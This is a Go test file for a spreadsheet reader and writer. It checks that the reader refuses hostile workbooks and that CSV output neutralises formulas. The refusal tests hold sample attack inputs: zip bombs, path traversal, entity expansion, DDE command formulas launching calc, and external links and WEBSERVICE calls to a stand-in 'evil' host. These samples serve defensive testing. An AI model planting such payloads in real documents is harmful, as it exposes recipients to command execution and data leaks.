package sheet_test

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"io"
	"runtime"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"capdo/internal/sheet"
)

// parts are the parts of a small honest workbook.
func parts() map[string]string {
	const head = `<?xml version="1.0" encoding="UTF-8"?>`
	return map[string]string{
		"[Content_Types].xml":        head + `<Types/>`,
		"xl/workbook.xml":            head + `<workbook xmlns:r="r"><sheets><sheet name="Sổ" sheetId="1" r:id="a"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels": head + `<Relationships><Relationship Id="a" Type="x/worksheet" Target="worksheets/one.xml"/></Relationships>`,
		"xl/sharedStrings.xml":       head + `<sst><si><t>Tên</t></si><si><r><t>Cổng </t></r><r><t>một cửa</t></r><rPh><t>no</t></rPh></si><si><t>Cổng</t></si></sst>`,
		"xl/worksheets/one.xml":      head + `<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="3"><c r="A3" t="s"><v>1</v></c><c r="C3"><v>45657</v></c><c t="inlineStr"><is><t>chữ</t></is></c></row></sheetData></worksheet>`,
	}
}

// packed is a zip of parts, the changed ones in their stead; order is that of
// names, extra entries at the end.
func packed(t testing.TB, change map[string]string, extra ...[2]string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	put := func(name, text string) {
		w, err := z.Create(name)
		if err == nil {
			_, err = io.WriteString(w, text)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	for name, text := range parts() {
		if c, ok := change[name]; ok {
			text = c
		}
		put(name, text)
	}
	for _, e := range extra {
		put(e[0], e[1])
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func read(b []byte, name string) (lines []sheet.Line, err error) {
	f, err := sheet.Open(bytes.NewReader(b), int64(len(b)), nil)
	if err != nil {
		return nil, err
	}
	err = f.Rows(name, func(l sheet.Line) error {
		lines = append(lines, sheet.Line{No: l.No, Cells: append([]sheet.Found(nil), l.Cells...)})
		return nil
	})
	return lines, err
}

func TestReadsAnHonestWorkbook(t *testing.T) {
	got, err := read(packed(t, nil), "Sổ")
	want := []sheet.Line{{No: 1, Cells: []sheet.Found{{Column: 1, Value: "Tên"}}},
		{No: 3, Cells: []sheet.Found{{Column: 1, Value: "Cổng một cửa"}, {Column: 3, Value: "45657", Number: true}, {Column: 4, Value: "chữ"}}}}
	if diff := cmp.Diff(want, got); err != nil || diff != "" {
		t.Errorf("%v %s", err, diff)
	}
}

// Every hostile file is refused by its own name; those that the table of
// contents betrays before anything is unpacked.
func TestHostileFilesAreRefusedByName(t *testing.T) {
	const one, rels, book = "xl/worksheets/one.xml", "xl/_rels/workbook.xml.rels", "xl/workbook.xml"
	row := func(cell string) map[string]string {
		return map[string]string{one: `<worksheet><sheetData><row r="1">` + cell + `</row></sheetData></worksheet>`}
	}
	bomb := strings.Repeat("0", 120<<20)
	for _, c := range []struct {
		name string
		file []byte
	}{
		{"zip-bomb", packed(t, nil, [2]string{"xl/media/a.bin", bomb})},
		{"zip-bomb", packed(t, map[string]string{one: "<worksheet>" + strings.Repeat("<a>", 40)})},
		{"zip-bomb", packed(t, nil, many(300)...)},
		{"duplicate-part", packed(t, nil, [2]string{"xl/Workbook.xml", "<workbook/>"})},
		{"part-name", packed(t, nil, [2]string{"../etc/passwd", ""})},
		{"part-name", packed(t, nil, [2]string{`xl\a.xml`, ""})},
		{"part-name", packed(t, nil, [2]string{"xl/so\u0302.xml", ""})},
		{"macro", packed(t, nil, [2]string{"xl/vbaProject.bin", "x"})},
		{"macro", packed(t, nil, [2]string{"xl/macrosheets/sheet1.xml", "x"})},
		{"external-link", packed(t, nil, [2]string{"xl/externalLinks/externalLink1.xml", "<ddeLink/>"})},
		{"external-link", packed(t, map[string]string{rels: `<Relationships><Relationship Id="a" Type="x/attachedTemplate" Target="\\evil\x.dot" TargetMode="External"/></Relationships>`})},
		{"external-link", packed(t, nil, [2]string{"xl/worksheets/_rels/one.xml.rels", `<Relationships><Relationship Id="a" Type="x/image" Target="http://evil/" TargetMode="External"/></Relationships>`})},
		{"data-connection", packed(t, nil, [2]string{"xl/connections.xml", "<connections/>"})},
		{"embedded-object", packed(t, nil, [2]string{"xl/embeddings/oleObject1.bin", "x"})},
		{"entity", packed(t, map[string]string{book: `<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><workbook>&b;</workbook>`})},
		{"entity", packed(t, map[string]string{one: `<!DOCTYPE a><worksheet/>`})},
		{"dde", packed(t, row(`<c r="A1"><f>cmd|'/c calc'!A0</f><v>0</v></c>`))},
		{"dde", packed(t, row(`<c r="A1"><f>_xlfn.WEBSERVICE("http://evil")</f></c>`))},
		{"huge-dimension", packed(t, map[string]string{one: `<worksheet><sheetData><row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData></worksheet>`})},
		{"huge-dimension", packed(t, row(`<c r="XFD1"><v>1</v></c>`))},
		{"huge-cell", packed(t, row(`<c r="A1" t="str"><v>`+strings.Repeat("a", 1<<18)+`</v></c>`))},
		{"merged", packed(t, map[string]string{one: `<worksheet><sheetData/><mergeCells><mergeCell ref="A1:B2"/></mergeCells></worksheet>`})},
		{"sheet-name", packed(t, map[string]string{book: `<workbook><sheets><sheet name="So` + "\u0302\u0309" + `" sheetId="1"/></sheets></workbook>`})},
		{"broken", packed(t, row(`<c r="A1" t="s"><v>99</v></c>`))},
		{"broken", packed(t, map[string]string{one: `<worksheet><sheetData><row r="1">`})},
		{"broken", packed(t, map[string]string{one: `<worksheet><sheetData><row r="3"/><row r="2"/></sheetData></worksheet>`})},
		{"broken", packed(t, map[string]string{book: `<workbook>&undefined;</workbook>`})},
		{"not-a-workbook", []byte("PK\x03\x04 but no zip")},
		{"not-a-workbook", zipped(t, "word/document.xml")},
		{"old-or-locked", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 the rest")},
		{"too-large", make([]byte, sheet.MaxFile+1)},
	} {
		_, err := read(c.file, "Sổ")
		var refused *sheet.Refused
		if !errors.As(err, &refused) || refused.Name != c.name || refused.Says.VI == "" || refused.Says.EN == "" {
			t.Errorf("want %s, got %v", c.name, err)
		}
	}
}

func many(n int) (all [][2]string) {
	for i := range n {
		all = append(all, [2]string{fmt.Sprintf("xl/a%d.xml", i), ""})
	}
	return all
}

func zipped(t testing.TB, name string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	if _, err := z.Create(name); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// book is a workbook of n rows, its texts within the cells.
func book(t testing.TB, n int) []byte {
	t.Helper()
	s := sheet.Sheet{Name: "Sổ", Columns: []sheet.Column{{Title: "Mã"}, {Title: "Tên", Width: 40}, {Title: "Ngày", Kind: sheet.Date}, {Title: "Số", Kind: sheet.Whole}}}
	s.Rows = func(yield func([]sheet.Cell, error) bool) {
		for i := range n {
			if !yield([]sheet.Cell{{Value: fmt.Sprintf("H56-%05d", i)}, {Value: fmt.Sprintf("=Hệ thống %d & <một>", i)}, {Value: "2024-12-31"}, {Value: "1539"}}, nil) {
				return
			}
		}
	}
	var b bytes.Buffer
	if err := sheet.Write(&b, sheet.Book{Title: "Thử", Sheets: []sheet.Sheet{s}, Meta: []sheet.Pair{{Name: "schema", Value: "x"}}}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// What is written reads back, nothing of it as a formula, and the hidden sheet
// with it.
func TestRoundTrip(t *testing.T) {
	b := book(t, 3)
	lines, err := read(b, "Sổ")
	if err != nil || len(lines) != 4 {
		t.Fatalf("%v %v", err, lines)
	}
	want := sheet.Line{No: 3, Cells: []sheet.Found{{Column: 1, Value: "H56-00001"}, {Column: 2, Value: "=Hệ thống 1 & <một>"}, {Column: 3, Value: "45657", Number: true}, {Column: 4, Value: "1539", Number: true}}}
	if diff := cmp.Diff(want, lines[2]); diff != "" {
		t.Error(diff)
	}
	f, err := sheet.Open(bytes.NewReader(b), int64(len(b)), nil)
	if err != nil || f.Meta()["schema"] != "x" {
		t.Errorf("%v %v", err, f.Meta())
	}
	if diff := cmp.Diff([]string{sheet.GuideSheet, "Sổ", sheet.ListSheet}, f.Names()); diff != "" {
		t.Error(diff)
	}
}

// Reading holds one row at a time: the heap does not grow with the rows.
func TestReadingHoldsOneRow(t *testing.T) {
	b := book(t, sheet.MaxRows-1)
	f, err := sheet.Open(bytes.NewReader(b), int64(len(b)), nil)
	if err != nil {
		t.Fatal(err)
	}
	live := func() uint64 {
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	var early, late uint64
	err = f.Rows("Sổ", func(l sheet.Line) error {
		switch l.No {
		case 100:
			early = live()
		case sheet.MaxRows - 100:
			late = live()
		}
		return nil
	})
	if err != nil || late == 0 || late > early+1<<20 {
		t.Errorf("%v: %d bytes live at row 100, %d at the end", err, early, late)
	}
}

func TestCSV(t *testing.T) {
	var b bytes.Buffer
	s := sheet.Sheet{Columns: []sheet.Column{{Title: "Tên"}, {Title: "Còn", Formula: "1"}, {Title: "Ghi chú"}}}
	s.Rows = func(yield func([]sheet.Cell, error) bool) {
		yield([]sheet.Cell{{Value: "=cmd|' /c'!A1"}, {}, {Value: "a;\"b\"\nc"}}, nil)
	}
	if err := sheet.WriteCSV(&b, s); err != nil {
		t.Fatal(err)
	}
	if want := "\uFEFFTên,Ghi chú\n'=cmd|' /c'!A1,\"a;\"\"b\"\"\nc\"\n"; b.String() != want {
		t.Errorf("%q", b.String())
	}
	for name, c := range map[string]struct {
		text string
		want []sheet.Line
	}{
		"our own":                 {b.String(), []sheet.Line{{No: 1, Cells: []sheet.Found{{Column: 1, Value: "Tên"}, {Column: 2, Value: "Ghi chú"}}}, {No: 2, Cells: []sheet.Found{{Column: 1, Value: "=cmd|' /c'!A1"}, {Column: 2, Value: "a;\"b\"\nc"}}}}},
		"semicolons, marks apart": {"a;b\n\n;To\u0302i\n", []sheet.Line{{No: 1, Cells: []sheet.Found{{Column: 1, Value: "a"}, {Column: 2, Value: "b"}}}, {No: 2, Cells: []sheet.Found{{Column: 2, Value: "Tôi", Loose: true}}}}},
	} {
		f, err := sheet.OpenCSV(strings.NewReader(c.text), int64(len(c.text)))
		if err != nil {
			t.Fatal(err)
		}
		var got []sheet.Line
		if err := f.Rows("", func(l sheet.Line) error {
			got = append(got, sheet.Line{No: l.No, Cells: append([]sheet.Found(nil), l.Cells...)})
			return nil
		}); err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(c.want, got); diff != "" {
			t.Errorf("%s: %s", name, diff)
		}
	}
	for name, text := range map[string]string{"encoding": "a,b\xff\xfe,c", "not-a-table": "a\x00b", "broken": "a,\"b\nc"} {
		f, err := sheet.OpenCSV(strings.NewReader(text), int64(len(text)))
		if err == nil {
			err = f.Rows("", func(sheet.Line) error { return nil })
		}
		var refused *sheet.Refused
		if !errors.As(err, &refused) || refused.Name != name {
			t.Errorf("want %s, got %v", name, err)
		}
	}
}

// No file, however mangled, takes the reader down.
func FuzzOpen(f *testing.F) {
	f.Add(packed(f, nil))
	f.Add([]byte("PK"))
	f.Fuzz(func(t *testing.T, b []byte) {
		if lines, err := read(b, "Sổ"); err == nil && len(lines) > sheet.MaxRows+1 {
			t.Errorf("%d rows", len(lines))
		}
	})
}
